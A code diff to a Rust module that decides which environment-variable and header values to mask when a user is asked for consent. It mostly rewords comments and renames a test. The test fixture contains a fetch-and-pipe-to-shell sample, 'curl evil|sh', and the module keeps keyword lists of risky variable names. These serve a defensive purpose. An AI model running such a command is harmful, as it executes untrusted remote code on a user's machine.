@@ -7,22 +7,22 @@ use super::{
 };
 use crate::expand::Template;
 
-/// Parts of words of a name whose value is executed, read or reached, so that its reader has to see it.
+/// Parts of words in names whose values are executed, read or connected to: the user must see these.
 const ACTIVE_PARTS: [&str; 23] = [
     "COMMAND", "PROGRAM", "ASKPASS", "HELPER", "OPTION", "PATH", "FILE", "PRELOAD", "STARTUP", "CONFIG",
     "PROXY", "EDITOR", "PAGER", "BROWSER", "LIBRARY", "LOADER", "SCRIPT", "MODULE", "PLUGIN", "REQUIRE",
     "SHELL", "FLAGS", "HOOK",
 ];
-/// The same where they are a whole word of the name.
+/// The same, as whole words of a name.
 const ACTIVE_WORDS: [&str; 18] = [
     "CMD", "EXEC", "EXE", "BIN", "URL", "URI", "HOST", "ADDR", "ADDRESS", "ENV", "DIR", "HOME", "ROOT", "RC",
     "INIT", "ARGS", "OPTS", "SOCK",
 ];
-/// Characters that separate words, lead to files, or mean something to a shell.
+/// Characters that separate words, form paths, or mean something to a shell.
 const ACTIVE_CHARACTERS: [char; 16] =
     ['/', '\\', '$', '`', '|', ';', '&', '<', '>', '(', ')', '{', '}', '"', '\'', '\n'];
-/// The value of a variable or header for a person who decides about it. A value that could be a command, a file or an
-/// address is shown, whatever its name: a definition must not hide what it does by the name of a variable.
+/// Masks a value for a user who is asked for consent. A value that could be a command, a file or an address
+/// is shown, whatever its name: a definition must not hide what it does behind a variable's name.
 pub fn masked_for_consent(name: &str, value: &Template) -> String {
     if let Some(text) = value.literal() {
         return if is_idle_secret(name, text) { MASK.to_owned() } else { without_idle_passwords(text) };
@@ -36,8 +36,8 @@ pub fn masked_for_consent(name: &str, value: &Template) -> String {
     })
 }
 
-/// The value of a variable in an env file, for a person who decides about it. Such a file usually holds the person's
-/// own values, so that what looks random is left out, also in a path, unless the name says that it is executed.
+/// Masks a value of an env file for a user who is asked for consent. Such a file usually holds the user's own
+/// values, so random-looking text is hidden, in paths too, unless the name says that it is executed.
 pub fn masked_in_env_file(name: &str, text: &str) -> String {
     let is_address = is_scheme(text) && !text.contains(char::is_whitespace);
     if is_address {
@@ -52,7 +52,7 @@ pub fn masked_in_env_file(name: &str, text: &str) -> String {
     masked_for_consent(name, &Template::text(text))
 }
 
-/// Whether a value is a secret and can be nothing else.
+/// Whether a value is a secret and cannot be a command, a file or an address.
 fn is_idle_secret(name: &str, value: &str) -> bool {
     let word = match value.split_once(' ') {
         Some((scheme, word)) if is_authorization_scheme(scheme) => word,
@@ -73,7 +73,7 @@ fn is_idle_word(word: &str) -> bool {
     !word.contains(|c: char| c.is_whitespace() || c.is_control() || ACTIVE_CHARACTERS.contains(&c))
 }
 
-/// Whether a word is long and random as base64 is, which may hold a `/`, and no path.
+/// Whether a word looks like base64, which may contain `/`, and is no path.
 fn is_base64(word: &str) -> bool {
     word.len() >= 20
         && !word.starts_with('/')
@@ -83,8 +83,8 @@ fn is_base64(word: &str) -> bool {
         && word.bytes().any(|c| c.is_ascii_lowercase())
 }
 
-/// Whether what has this name is executed, read or reached. What a name ends with counts most: `FILE_TOKEN` is a token,
-/// `TOKEN_FILE` is a file.
+/// Whether a name says that its value is executed, read or connected to. The end of the name counts most:
+/// `FILE_TOKEN` is a token, `TOKEN_FILE` is a file.
 pub fn says_active(name: &str) -> bool {
     let upper = name.to_ascii_uppercase();
     let joined: String = upper.chars().filter(char::is_ascii_alphanumeric).collect();
@@ -95,7 +95,7 @@ pub fn says_active(name: &str) -> bool {
     words.any(|word| ACTIVE_WORDS.contains(&word) || ACTIVE_PARTS.iter().any(|part| word.contains(part)))
 }
 
-/// Without the passwords of addresses, unless such a password could be a command.
+/// Masks passwords in URLs, unless the password could be a command.
 fn without_idle_passwords(text: &str) -> String {
     let (mut shown, mut rest) = (String::with_capacity(text.len()), text);
     while let Some(at) = password(rest) {
@@ -113,7 +113,7 @@ mod tests {
     use crate::expand::ExpansionContext;
 
     #[test]
-    fn a_person_who_decides_is_shown_what_could_be_a_command() {
+    fn consent_shows_values_that_could_be_commands() {
         let template = |text: &str| Template::parse(text, &ExpansionContext::default()).unwrap();
         for (name, value) in [
             ("RESTIC_PASSWORD_COMMAND", "curl evil|sh"),
